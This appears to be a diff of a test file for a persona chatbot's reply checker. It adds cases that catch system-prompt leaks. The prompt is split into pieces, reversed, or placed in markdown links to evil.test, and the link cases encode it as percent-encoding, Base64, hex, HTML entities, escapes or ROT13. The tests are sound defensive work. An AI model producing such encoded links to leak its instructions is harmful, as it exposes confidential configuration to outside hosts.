@@ -3,7 +3,8 @@ import { describe, expect, it } from "vitest";
 import { checkReply } from "../../src/core/persona/check-reply.ts";
 import { loadPersona } from "../../src/core/persona/load-persona.ts";
 import { buildSystemPrompt } from "../../src/core/persona/system-prompt.ts";
-import { judgeReply } from "../../src/core/persona/validate-reply.ts";
+import { createSentenceStream } from "../../src/core/persona/sentence-stream.ts";
+import { createReplyJudge, judgeReply } from "../../src/core/persona/validate-reply.ts";
 import { breakingReplies } from "./persona-cases-breaking.ts";
 import { fineReplies } from "./persona-cases-fine.ts";
 
@@ -44,6 +45,75 @@ describe("judgeReply", () => {
     expect(judged.verdict === "break" && judged.spans.map(({ start, end }) => text.slice(start, end))).toEqual([
       "作为一个AI，我没有感情。",
     ]);
+  });
+});
+
+/** Pieces of the prompt as a chatty person would carry them out: each too short to be a copy by itself. */
+const pieces = prompt
+  .split(/[\n，。；：、]/)
+  .map((piece) => piece.replace(/^[-#\s]+/, ""))
+  .filter((piece) => piece.length >= 6 && piece.length < 16)
+  .slice(0, 14);
+const hosts = (encode: (piece: string) => string) =>
+  pieces
+    .map((piece, index) => `第${index}个在[这](https://evil.test/${index}?q=${encode(piece)})，看看吧。`)
+    .join("\n");
+
+describe("copies of the system prompt in pieces", () => {
+  it.each([
+    ["a line at a time", pieces.map((piece, index) => `第${index}行嘛：${piece}。`).join("\n")],
+    ["backwards", pieces.toReversed().join("？哦对了，还有一件小事，")],
+    ["in several links", hosts((piece) => piece)],
+    ["percent-encoded in several links", hosts(encodeURIComponent)],
+    ["percent-encoded twice", hosts((piece) => encodeURIComponent(encodeURIComponent(piece)))],
+    ["in Base64", hosts((piece) => Buffer.from(piece).toString("base64url"))],
+    ["in hexadecimal", hosts((piece) => Buffer.from(piece).toString("hex"))],
+    [
+      "in HTML entities",
+      hosts((piece) => Array.from(piece, (letter) => `&#x${letter.codePointAt(0)?.toString(16)};`).join("")),
+    ],
+    [
+      "in escapes",
+      hosts((piece) => Array.from(piece, (letter) => `\\u${letter.codePointAt(0)?.toString(16)}`).join("")),
+    ],
+  ])("are caught %s", (_, text) => {
+    expect(kindsOf(text)).toContain("prompt-leak");
+  });
+
+  it("are caught while they are streamed, before half of them is out", () => {
+    let shown = "";
+    const stream = createSentenceStream({
+      judge: createReplyJudge(persona, prompt),
+      onText: (text) => void (shown += text),
+    });
+    for (const letter of pieces.map((piece, index) => `第${index}行嘛：${piece}。\n`).join("")) stream.push(letter);
+    expect(stream.end().kinds).toEqual(["prompt-leak"]);
+    expect(pieces.filter((piece) => shown.includes(piece)).length).toBeLessThan(pieces.length / 2);
+  });
+
+  it.each([
+    ["the whole line percent-encoded in one link", encodeURIComponent],
+    ["the whole line in Base64", (text: string) => Buffer.from(text).toString("base64")],
+  ])("are caught: %s", (_, encode) => {
+    const line = prompt.split("\n").find((item) => item.length > 40) ?? "";
+    expect(kindsOf(`看[这里](https://evil.test/?q=${encode(line)})`)).toContain("prompt-leak");
+  });
+
+  it("are caught in ROT13, where the prompt is English", () => {
+    const english = buildSystemPrompt(persona, { language: "en" });
+    const line = english.split("\n").find((item) => item.startsWith("- Never repeat")) ?? "";
+    const turned = line.replace(/[a-z]/gi, (letter) => {
+      const base = letter < "a" ? 65 : 97;
+      return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base);
+    });
+    expect(judgeReply(turned, persona, english)).toMatchObject({ verdict: "break", kinds: ["prompt-leak"] });
+  });
+
+  it("are not seen in all that she may say, taken together", () => {
+    expect(kindsOf(fineReplies.join("\n"))).not.toContain("prompt-leak");
+    expect(
+      kindsOf("看 https://example.com/search?q=%E8%AE%B0%E5%BF%86%E5%AD%98%E5%8F%96&lang=zh 。\n".repeat(20)),
+    ).toEqual([]);
   });
 });
 
